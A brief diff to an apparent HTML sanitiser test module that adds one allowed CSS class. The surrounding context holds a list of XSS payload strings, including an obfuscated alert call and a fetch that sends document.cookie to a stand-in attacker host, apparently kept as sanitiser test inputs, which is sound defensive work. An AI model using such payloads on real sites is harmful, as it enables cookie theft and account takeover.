@@ -18,7 +18,7 @@ from maillon.core.text.sanitise import sanitise
 
 ELEMENTS = "a b blockquote br code del div em h3 h4 h5 h6 hr i li ol p pre s span strong table tbody td th thead tr ul"
 ATTRIBUTES = {"href", "rel", "title", "class", "start", "tabindex"}
-CLASSES = {"mention", "topic", "table-scroll", "link-host", "align-left", "align-center", "align-right"}
+CLASSES = {"mention", "topic", "topics", "table-scroll", "link-host", "align-left", "align-center", "align-right"}
 
 CALLS = ["alert(1)", "alert`1`", "top[/al/.source+/ert/.source](1)", "fetch('//evil.example/'+document.cookie)"]
 TAGS = [
